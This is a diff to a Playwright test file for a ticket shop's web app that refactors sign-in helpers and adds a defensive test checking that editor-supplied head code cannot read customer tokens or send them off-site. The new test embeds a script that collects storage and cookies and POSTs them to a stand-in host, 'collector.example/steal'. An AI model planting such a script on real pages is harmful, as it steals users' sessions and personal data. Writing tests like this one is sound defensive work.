@@ -5,32 +5,16 @@
  * page's CSP, and accessibility of the content pages.
  */
 import { type APIRequestContext, type Browser, expect, type Page, test } from '@playwright/test';
-import { demoAccounts, expectNoSeriousA11yViolations, holdAppScript, navigateInApp } from './fixtures';
+import {
+  apiTokenFor,
+  demoAccounts,
+  expectNoSeriousA11yViolations,
+  holdAppScript,
+  navigateInApp,
+  signInAs,
+} from './fixtures';
 
-async function tokenFor(request: APIRequestContext, who: 'customer' | 'editor') {
-  const acc = demoAccounts()[who];
-  const res = await request.post('/api/api/token/', {
-    data: { username: acc.email, password: acc.password },
-  });
-  expect(res.ok()).toBe(true);
-  const { access, refresh } = await res.json();
-  return { access: access as string, refresh: refresh as string, email: acc.email };
-}
-
-async function signIn(page: Page, who: 'customer' | 'editor') {
-  const t = await tokenFor(page.request, who);
-  await page.addInitScript(
-    ([a, r, e]) => {
-      if (!localStorage.getItem('access')) {
-        localStorage.setItem('access', a);
-        localStorage.setItem('refresh', r);
-        localStorage.setItem('email', e);
-      }
-    },
-    [t.access, t.refresh, t.email],
-  );
-  return t;
-}
+const signIn = (page: Page, who: 'customer' | 'editor') => signInAs(page, who);
 
 /** A fresh browser context without any token: a visitor. */
 async function visitorPage(browser: Browser, baseURL: string | undefined) {
@@ -316,7 +300,8 @@ test.describe('editor tools', () => {
     await signIn(page, 'editor');
     await page.goto('/aboutus');
     await page.getByRole('button', { name: 'EDIT title' }).click();
-    await page.evaluate(() => localStorage.removeItem('access'));
+    // Another tab signed out (it cleared the shared storage): this one no longer has a session.
+    await page.evaluate(() => localStorage.removeItem('email'));
     await page.getByRole('dialog').getByRole('button', { name: 'Save Changes' }).click();
     await expect(page.getByRole('dialog').getByRole('alert')).toHaveText(
       'Failed to save content: Authentication required',
@@ -420,7 +405,7 @@ test.describe('editor tools', () => {
     baseURL,
     request,
   }) => {
-    const t = await tokenFor(request, 'editor');
+    const t = { access: await apiTokenFor(request, 'editor') };
     const before = (await (await request.get('/api/static-content/about-us/')).json()).page;
     const metaTitle = `Meet the Rome team ${Date.now()}`;
     const metaDescription = `Edited: who sells your Rome tickets ${Date.now()}`;
@@ -520,6 +505,64 @@ test.describe('editor tools', () => {
         data: { global_head_code: originalHead },
       });
       await restoreBlock(page.request, t.access, 'about-us-main-content', originalMain);
+    }
+  });
+
+  test('the head code cannot read a signed-in customer’s tokens, nor post what it reads to another site', async ({
+    page,
+    browser,
+    baseURL,
+  }) => {
+    // Issue #21 item 2 (decision 018): an editor's script runs on the storefront pages a customer or a
+    // superuser opens while signed in. It looks for tokens in storage and cookies, and tries to send.
+    const auth = { authorization: `Bearer ${await apiTokenFor(page.request, 'editor')}` };
+    const originalHead = (await (await page.request.get('/api/website-settings/global-head-code/')).json())
+      .global_head_code as string;
+    const spy = `<script>
+      window.__spy = new Promise(function (done) {
+        setTimeout(function () {
+          var seen = JSON.stringify([Object.assign({}, localStorage), Object.assign({}, sessionStorage), document.cookie]);
+          var blocked = [];
+          document.addEventListener('securitypolicyviolation', function (e) { blocked.push(e.effectiveDirective); });
+          fetch('https://collector.example/steal', { method: 'POST', body: seen }).catch(function () {});
+          setTimeout(function () { done({ seen: seen, blocked: blocked }); }, 500);
+        }, 1500);
+      });
+    </script>`;
+    try {
+      const saved = await page.request.patch('/api/website-settings/global-head-code/', {
+        headers: auth,
+        data: { global_head_code: spy },
+      });
+      expect(saved.ok()).toBe(true);
+      const customer = await browser.newContext({ baseURL });
+      const c = await customer.newPage();
+      const { customer: account } = demoAccounts();
+      await c.goto('/login');
+      await c.getByRole('main').getByLabel('Username').fill(account.email);
+      await c.getByRole('main').getByLabel('Password', { exact: true }).fill(account.password);
+      await c.getByRole('main').getByRole('button', { name: 'Sign In' }).click();
+      await expect(c).toHaveURL(/\/$/);
+      await c.reload();
+      await expect(c.getByRole('button', { name: 'Logout' }).first()).toBeAttached();
+      // The app's session works on this page (its calls carry the in-memory token)...
+      await c.goto('/yourticket');
+      await expect(c).toHaveURL(/\/yourticket$/);
+      await c.goto('/');
+      const { seen, blocked } = await c.evaluate(
+        () => (window as any).__spy as Promise<{ seen: string; blocked: string[] }>,
+      );
+      // ...but the head code sees the e-mail and no token: no JWT anywhere it can read.
+      expect(seen).toContain(account.email);
+      expect(seen).not.toMatch(/eyJ[\w-]+\.[\w-]+\./);
+      // And connect-src keeps what it read in the shop.
+      expect(blocked).toContain('connect-src');
+      await customer.close();
+    } finally {
+      await page.request.patch('/api/website-settings/global-head-code/', {
+        headers: auth,
+        data: { global_head_code: originalHead },
+      });
     }
   });
 
